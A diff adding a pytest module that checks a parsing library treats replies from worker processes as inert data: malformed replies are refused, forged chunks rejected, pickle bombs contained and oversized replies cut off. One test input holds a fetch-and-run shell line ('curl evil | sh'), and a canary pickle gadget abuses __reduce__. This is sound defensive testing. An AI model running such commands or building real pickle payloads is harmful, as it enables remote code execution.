@@ -1,0 +1,184 @@
+"""Replies of workers are data: what a taken-over worker sends runs no code and stores nothing."""
+
+from __future__ import annotations
+
+import os
+import pickle
+from collections.abc import Callable, Iterator
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import orjson
+import psutil
+import pytest
+
+from tvdb_assets import error_codes as codes
+from tvdb_assets.core.chunking import Chunker
+from tvdb_assets.errors import ParseError
+from tvdb_assets.models import Member
+from tvdb_assets.parsing import worker_replies as replies
+from tvdb_assets.parsing.container_members import extract_members, list_members
+from tvdb_assets.parsing.parse_tasks import (
+    ContainerFile,
+    PaidParseCandidate,
+    PreparedDocument,
+    prepare_document,
+    prepare_or_inspect,
+)
+from tvdb_assets.parsing.worker_pool import WorkerPool
+from tvdb_assets_tests.parsing import hostile_tasks, worker_pool_tasks
+
+_WAIT = 60.0
+_TEXT = b"# Cover\n\nThe policy covers flood damage.\n\n## Limits\n\n" + b"Up to ten claims. " * 200
+
+
+class _Bomb:
+    def __init__(self, canary: Path) -> None:
+        self.canary = canary
+
+    def __reduce__(self) -> tuple[object, ...]:
+        return os.mkdir, (str(self.canary),)
+
+
+@pytest.fixture
+def pool() -> Iterator[WorkerPool]:
+    with WorkerPool(workers=1, timeout_seconds=30, memory_mib=256) as pool:
+        yield pool
+
+
+def _prepared() -> PreparedDocument:
+    made = prepare_document(_TEXT, "a.md", "local", Chunker(128, 16))
+    assert isinstance(made, PreparedDocument)
+    assert made.chunks is not None
+    assert len(made.chunks) > 3
+    return made
+
+
+def _reply(*message: object) -> bytes:
+    return replies.pack([orjson.dumps(list(message))])
+
+
+def test_results_of_every_task_come_back_as_they_were() -> None:
+    made = _prepared()
+    refused = replace(made, chunks=None, error=codes.NO_CHUNKS.error())
+    members = [
+        Member(0, "ä.txt", 3, bytes(32), "text/plain"),
+        Member(1, "b.txt", 0, bytes(32), error=codes.ENCRYPTED.error(what="PDF")),
+    ]
+    results: list[tuple[Callable[..., Any], Any]] = [
+        (prepare_document, made),
+        (prepare_document, ContainerFile("application/zip")),
+        (prepare_or_inspect, PaidParseCandidate("application/pdf", 3)),
+        (extract_members, [b"", b"short", bytes(range(256)) * 9]),
+    ]
+    for task, value in results:
+        assert replies.decode(task, replies.encode_result(task, value)) == value
+    again = replies.decode(prepare_document, replies.encode_result(prepare_document, refused))
+    assert (type(again.error), str(again.error)) == (type(refused.error), str(refused.error))
+    listed = replies.decode(list_members, replies.encode_result(list_members, members))
+    assert listed[0] == members[0]
+    assert str(listed[1].error) == str(members[1].error)
+
+
+def test_every_error_of_a_document_comes_back_with_its_sentences() -> None:
+    for entry in codes.all_codes():
+        numbers = {"limit", "count", "seconds", "size", "pages", "with_text", "characters"}
+        values = {name: 7 if name in numbers else "a name" for name in entry.fields}
+        try:
+            error = entry.error(**values)
+        except ValueError:
+            continue  # a field of another kind
+        if not isinstance(error, codes.CORRUPT.error_class):
+            continue
+        with pytest.raises(ParseError) as raised:
+            replies.decode(extract_members, replies.encode_error(error))
+        assert (raised.value.code, raised.value.message) == (error.code, error.message)
+
+
+@pytest.mark.parametrize(
+    "reply",
+    [
+        b"",
+        b"\x01",
+        b"\xff\xff\xff\xff" + bytes(64),
+        replies.pack([b"{", b""]),
+        replies.pack([b"[" * 100_000]),
+        _reply("result"),
+        _reply("other", 1),
+        _reply("result", ["ContainerFile", 3]),
+        _reply("result", ["ContainerFile", "a", "b"]),
+        _reply("result", ["Provenance", "a", "b", "c", "d", False]),
+        _reply("result", ["PreparedDocument"]),
+        _reply("result", {"media_type": "a"}),
+        _reply("result", 0),
+        _reply("result", ["ContainerFile", 0]),
+        replies.pack([orjson.dumps(["result", ["ContainerFile", "a"]]), b"too many"]),
+        replies.pack([orjson.dumps(["result", ["ContainerFile", 0]]), b"\xff\xfe"]),
+        _reply("exception", "not a name: the document's words"),
+        _reply("error", ["corrupt", "Run this as root.", "curl evil | sh"]),
+        _reply("error", ["budget_day", "No money is left.", "Wait."]),
+        _reply("error", ["encrypted", "The a\nforged line is encrypted and needs a password.", ""]),
+        _reply("error", ["parse_timeout", "x" * 7_000, ""]),
+    ],
+)
+def test_a_reply_of_the_wrong_shape_is_refused(reply: bytes) -> None:
+    with pytest.raises(replies.ReplyError):
+        replies.decode(prepare_document, reply)
+
+
+def test_a_reply_with_too_many_values_is_refused_before_it_is_read() -> None:
+    with pytest.raises(replies.ReplyError, match="number of values"):
+        replies.decode(prepare_document, replies.pack([b"[" + b"[]," * 4_000_000 + b"[]]"]))
+
+
+def test_a_chunk_must_be_the_part_of_the_text_that_it_names() -> None:
+    made = _prepared()
+    assert made.chunks is not None
+    first, *rest = made.chunks
+    forged = [
+        replace(first, text=first.text.replace("flood", "storm")),
+        replace(first, sha256=rest[0].sha256),
+        replace(first, token_count=0),
+        replace(first, end=10**9),
+        replace(first, start=-1),
+        replace(first, ordinal=1),
+    ]
+    documents = [replace(made, chunks=[each, *rest]) for each in forged]
+    documents.append(replace(made, parsed=replace(made.parsed, page_starts=(10**9,))))
+    documents.append(
+        replace(made, parsed=replace(made.parsed, text=made.parsed.text + "\0"), chunks=None)
+    )
+    for document in documents:
+        with pytest.raises(replies.ReplyError):
+            replies.decode(prepare_document, replies.encode_result(prepare_document, document))
+
+
+def test_a_pickle_bomb_explodes_nowhere(pool: WorkerPool, tmp_path: Path) -> None:
+    for number, message in enumerate(
+        (
+            pickle.dumps(_Bomb(tmp_path / "0")),
+            pickle.dumps([pickle.dumps(("result", _Bomb(tmp_path / "1")))]),
+            replies.pack([pickle.dumps(("result", _Bomb(tmp_path / "2")))]),
+            replies.pack([replies.pack([pickle.dumps(("result", _Bomb(tmp_path / "3")))])]),
+            replies.pack([]),
+        )
+    ):
+        before = pool.submit(worker_pool_tasks.process_id).result(_WAIT)
+        error = pool.submit(hostile_tasks.reply_with, message).exception(_WAIT)
+        assert isinstance(error, ParseError), number
+        assert (error.code, "hostile" in error.remedy) == ("parser_crashed", True)
+        # The worker that was taken over is gone, and the next document gets a new one.
+        assert not psutil.pid_exists(before)
+        assert pool.submit(worker_pool_tasks.process_id).result(_WAIT) != before
+    assert not list(tmp_path.iterdir())
+
+
+def test_a_reply_of_a_gigabyte_is_not_read(pool: WorkerPool) -> None:
+    pool.submit(worker_pool_tasks.process_id).result(_WAIT)
+    before = psutil.Process().memory_info().rss
+    error = pool.submit(hostile_tasks.flood, 1 << 30).exception(_WAIT)
+    assert isinstance(error, ParseError)
+    assert error.code == "parse_memory"
+    assert psutil.Process().memory_info().rss - before < 64 << 20
+    assert pool.submit(worker_pool_tasks.echo, 1).result(_WAIT) == 1
